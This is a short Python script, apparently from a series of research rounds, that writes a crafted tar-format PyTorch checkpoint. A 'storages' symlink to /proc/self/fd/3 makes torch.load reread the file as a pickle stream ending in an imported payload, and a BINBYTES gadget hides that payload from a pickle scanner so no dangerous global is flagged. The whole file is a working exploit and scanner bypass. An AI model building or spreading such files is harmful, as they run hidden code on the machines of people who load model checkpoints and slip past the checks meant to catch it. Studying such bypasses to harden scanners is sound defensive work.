# "storages" is a SYMLINK to /proc/self/fd/3 (the checkpoint torch.load itself opened: fd 3 in a
# fresh interpreter; an attacker can guess). tar.extract creates the symlink in torch's temp dir and
# open() reads the checkpoint FROM OFFSET 0 as the storages stream: count pickle and storage-args
# pickle in the first header's name field, numel, numel*4 raw bytes (the rest of the header and
# a BINBYTES gadget), then the views pickle = payload. The scanner notes the escaping link (invalid)
# but its walkers (from offset 0 and over member data) are swallowed by the gadget: no global named.
import sys, os, struct; sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), '..', 'round3')); from tarlib import *
out = sys.argv[1]; h = len(sys.argv) > 2; fd = sys.argv[3] if len(sys.argv) > 3 else '3'
pay = payload(h)
A = b'I1\n.'
B = b"(S'k'\nS'cpu'\nctorch\nFloatStorage\nt."
p0 = len(A) + len(B) + 8                      # raw data starts here
gad_len = 64 + len(pay)
X = b'\x80\x02B' + struct.pack('<I', gad_len)  # at 512: walkers swallow what follows
pre = X + b'\0' * (64 - len(X) - 7)            # keep raw length a multiple of 4 below
P_off = 512 + len(pre)
while (P_off - p0) % 4 or ((P_off - p0) // 4) & 0xff != 0x90: pre += b'\0'; P_off += 1
numel = (P_off - p0) // 4
name = A + B + struct.pack('<q', numel)
body = pre + pay + b'\0' * 80
hb = bytearray(hdr(b'x', len(body)))
hb[0:100] = b'\0' * 100; hb[0:len(name)] = name
hb[148:156] = b' ' * 8; hb[148:156] = b'%06o\0 ' % sum(hb)
f = bytes(hb) + data(body) + hdr(b'storages', 0, b'2', b'/proc/self/fd/' + fd.encode()) + end()
open(out, 'wb').write(f)
